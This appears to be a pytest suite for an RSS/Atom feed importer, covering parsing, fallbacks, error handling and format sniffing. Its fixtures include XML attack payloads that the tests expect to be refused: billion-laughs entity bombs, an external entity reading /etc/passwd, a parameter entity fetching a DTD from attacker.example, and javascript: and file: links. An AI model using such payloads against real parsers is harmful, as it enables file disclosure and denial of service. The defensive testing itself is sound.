from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest

from importers.draft import ArticleDraft, ImportFailure
from importers.feed import FeedImporter
from importers.registry import parse_file

FIXTURES = Path(__file__).parent / "fixtures"
WriteFile = Callable[..., Path]


def feed(path: Path) -> list[ArticleDraft]:
    name, drafts = parse_file(path)
    assert name == "feed"
    return drafts


def kinds_and_texts(draft: ArticleDraft) -> list[tuple[str, str]]:
    return [(block.kind, block.text) for block in draft.blocks]


def test_rss_items_with_content_encoded() -> None:
    river, market = feed(FIXTURES / "feed_rss.xml")
    assert (river.title, river.source, river.author) == (
        "River level falls & farms recover",
        "Valley Gazette",
        "Rosa Lind",
    )
    assert (river.date, river.url) == (dt.date(2017, 2, 7), "https://valley.example/river")
    assert kinds_and_texts(river) == [
        ("paragraph", "The river fell by two metres overnight."),
        ("heading", "Farms"),
        ("paragraph", "Farmers returned to their fields."),
        ("quote", '"We were lucky," one said.'),
        ("list-item", "Roads open"),
        ("list-item", "Schools open"),
    ]
    [bold] = river.blocks[0].marks
    assert (bold.kind, river.blocks[0].text[bold.start : bold.end]) == ("bold", "two metres")
    [link] = river.blocks[2].marks
    assert (link.start, link.end, link.href) == (8, 16, "https://valley.example/farms")
    # The item without any text is skipped; its note rides on the first article.
    assert river.warnings == ["item 3: no text, skipped"]
    assert river.origin == "item 1" and river.raw.startswith(b"<item")
    assert b"content:encoded" in river.raw or b"encoded" in river.raw
    # Without content:encoded the description is the text; "mail (Name)" gives the name.
    assert kinds_and_texts(market) == [
        ("paragraph", "The weekly market moves to Thursday this week.")
    ]
    assert (market.author, market.date) == ("News Desk", dt.date(2017, 2, 8))


def test_atom_entries() -> None:
    tides, plain, xhtml = feed(FIXTURES / "feed_atom.xml")
    assert tides.title == "Tides & winds"  # type="html": markup and entities resolved
    assert tides.url == "https://harbour.example/tides"  # rel="alternate", not "edit"
    assert tides.date == dt.date(2018, 5, 1)  # published wins over updated; local date kept
    assert tides.source == "Harbour Notes" and tides.author == "Harbour Desk"  # feed's author
    assert kinds_and_texts(tides) == [
        ("paragraph", "High tide at six."),
        ("paragraph", "Winds from the west."),
    ]
    assert plain.author == "Ines Vau" and plain.date == dt.date(2018, 5, 3)
    assert plain.blocks[0].text == "A summary in plain text, with 3 < 4 kept as written."
    assert [b.text for b in xhtml.blocks] == ["First bold part.", "Second part."]
    assert [(m.kind, m.start, m.end) for m in xhtml.blocks[0].marks] == [("bold", 6, 10)]


RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://x.example/"><title>RDF Times</title></channel>
  <item rdf:about="https://x.example/1">
    <title>First</title><link>https://x.example/1</link>
    <description>Items sit beside the channel in RSS 1.0.</description>
    <dc:date>2016-01-02T03:04:05Z</dc:date><dc:creator>Ola</dc:creator>
  </item>
</rdf:RDF>"""

RSS_091 = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old Feed</title>
<item><title>Caf\xe9</title><description>Text in Latin-1: caf\xe9.</description>
<pubDate>not a date</pubDate></item></channel></rss>"""


def test_rss_1_and_0_91(write_file: WriteFile) -> None:
    [first] = feed(write_file(RDF, "a.rdf"))
    assert (first.title, first.source, first.author) == ("First", "RDF Times", "Ola")
    assert first.date == dt.date(2016, 1, 2)
    # A DOCTYPE that points at a DTD is fine: it is never fetched.
    [old] = feed(write_file(RSS_091, "b.xml"))
    assert old.title == "Café" and old.blocks[0].text == "Text in Latin-1: café."
    assert old.warnings == ["item 1: unreadable date 'not a date'; no date set"]
    assert old.date is None and old.url == ""


def laughs(levels: int) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
    ]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{"".join(entities)}\n]>\n'
        f"<rss><channel><title>&lol{levels - 1};</title><item><description>&lol{levels - 1};"
        "</description></item></channel></rss>"
    ).encode()


# (How quickly they are refused is a benchmark: tests/perf/bench_limits.py.)
ENTITY_TRICKS = {
    "billion-laughs": laughs(10),
    "external-entity": b'<?xml version="1.0"?>'
    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<rss><channel><item><description>&x;</description></item></channel></rss>",
    "parameter-entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">'
    b" %p;]><rss/>",
    "utf-16-laughs": "\ufeff".encode("utf-16-le") + laughs(10).decode().encode("utf-16-le"),
}


@pytest.mark.parametrize("content", ENTITY_TRICKS.values(), ids=ENTITY_TRICKS.keys())
def test_entity_tricks_are_refused(write_file: WriteFile, content: bytes) -> None:
    with pytest.raises(ImportFailure) as caught:
        parse_file(write_file(content, "bomb.xml"), "feed")
    assert str(caught.value) == "refused: the file declares XML entities, which feeds never need"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"<rss><channel><item><title>x</item></channel></rss>", "invalid XML at line 1: "),
        (b"<html><body><p>Not a feed</p></body></html>", "not an RSS or Atom feed (the root"),
        (b"<rss><channel><title>Empty</title></channel></rss>", "the feed has no items"),
        (b"<rss><channel><item><title>T</title></item></channel></rss>", "no item of the feed"),
        (
            b"<rss><channel><item><description>&nbsp;x</description></item></channel></rss>",
            "invalid XML",
        ),
        (b"<?xml version='1.0'?>", "invalid XML"),
    ],
)
def test_broken_feeds_fail_whole(write_file: WriteFile, content: bytes, reason: str) -> None:
    with pytest.raises(ImportFailure) as caught:
        parse_file(write_file(content, "a.xml"), "feed")
    assert str(caught.value).startswith(reason)


def test_links_and_titles_fall_back(write_file: WriteFile) -> None:
    content = b"""<rss><channel><title>T</title>
      <item><guid>https://x.example/guid</guid><description>&lt;p&gt;First sentence here.
      Second one.&lt;/p&gt;</description></item>
      <item><guid isPermaLink="false">abc</guid><link>https://x.example/l</link>
      <description>Plain.</description></item></channel></rss>"""
    guid, linked = feed(write_file(content, "a.rss"))
    assert guid.url == "https://x.example/guid" and guid.title == "First sentence here."
    assert linked.url == "https://x.example/l"


def test_only_web_addresses_become_the_article_url(write_file: WriteFile) -> None:
    content = b"""<rss><channel><title>T</title>
      <item><link>javascript:alert(1)</link><description>Scripted.</description></item>
      <item><link>data:text/html,hi</link><guid>https://x.example/g</guid>
      <description>Guid instead.</description></item>
      <item><link>file:///etc/passwd</link><guid>javascript:x()</guid>
      <description>None at all.</description></item></channel></rss>"""
    scripted, guid, neither = feed(write_file(content, "a.rss"))
    assert (scripted.url, guid.url, neither.url) == ("", "https://x.example/g", "")


@pytest.mark.parametrize(
    ("head", "score"),
    [
        (b'<?xml version="1.0"?>\n<rss version="2.0">', 0.95),
        (
            b'\xef\xbb\xbf<?xml version="1.0"?><!-- c --><feed xmlns="http://www.w3.org/2005/Atom">',
            0.95,
        ),
        (b"<rdf:RDF xmlns:rdf=", 0.95),
        (b"<!DOCTYPE html><html><body>about <rss> feeds", 0.0),
        (b"Some text mentioning <rss> tags", 0.0),
        (b"", 0.0),
    ],
)
def test_sniff(head: bytes, score: float) -> None:
    assert FeedImporter().sniff(head, Path("a.xml")) == score
